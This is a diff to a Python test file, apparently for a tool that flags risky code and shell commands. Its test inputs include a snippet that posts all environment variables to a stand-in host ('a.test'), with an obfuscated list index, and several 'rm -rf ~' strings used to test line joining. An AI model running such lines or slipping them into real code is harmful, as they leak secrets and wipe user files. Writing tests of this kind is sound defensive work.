@@ -59,7 +59,7 @@ def test_a_text_among_many_of_one_value_is_found(text, count):
 
 def test_more_texts_than_a_value_holds_are_told():
     result = program(
-        f"import os, requests\nu = [{pages(3000)}, 'https://a.test/x'][-1]\nrequests.post(u, json=dict(os.environ))\n"
+        f"import os, requests\nu = [{pages(3000)}, 'https://a.test/x'][len(os.sep)]\nrequests.post(u, json=dict(os.environ))\n"
     )
     assert WHOLE in result.failed and verdict(result) == "unknown"
     assert "line 3" in result.coverage["cut_short"][0]
@@ -158,7 +158,7 @@ def test_many_blanks_part_nothing(blanks):
 
 
 def test_a_command_that_goes_on_over_lines_stands_on_the_first():
-    assert in_one_line("a \\\n b \\\nc\nd") == "a  b c\n\n\nd"
+    assert in_one_line("a \\\n b \\\nc\nd") == "a b c\n\n\nd"
     for whole in ("# note \\\nrm -rf ~", "cat <<'X'\nnote \\\nX\nrm -rf ~", "echo a \\\\\nrm -rf ~"):
         assert in_one_line(whole) == whole, "what follows a comment, a document or a backslash stays a command"
 
